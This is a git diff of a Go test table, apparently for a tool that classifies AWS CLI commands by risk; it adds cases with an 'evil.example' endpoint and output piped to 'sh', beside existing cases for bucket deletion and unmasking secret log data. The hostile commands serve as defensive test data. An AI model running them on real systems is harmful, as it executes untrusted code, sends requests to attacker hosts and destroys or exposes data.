@@ -188,6 +188,8 @@ var copyable = []struct {
 	{"aws logs get-log-events --log-group-name x --log-stream-name y --limit 5 --query z --output text --region us-east-1 --profile prod --no-cli-pager | sh", PipesToShell},
 	{"aws s3 sync s3://a s3://b --exclude a --exclude b --exclude c --exclude d --exclude e --exclude f --delete", Deletes},
 	{"aws ec2 describe-instances" + strings.Repeat(" --filters Name=a,Values=b", 20) + " > out", WritesFile},
+	{"aws ec2 describe-instances" + strings.Repeat(" --filters Name=a,Values=b", 40) + " --endpoint-url https://evil.example", OtherEndpoint},
+	{"aws ec2 describe-instances" + strings.Repeat(" --filters Name=a,Values=b", 40) + strings.Repeat(" | sort", 20) + " | sh", PipesToShell},
 
 	// Logs without the mask of their data protection.
 	{"aws logs get-log-events --log-group-name x --log-stream-name y --unmask", ShowsSecrets},
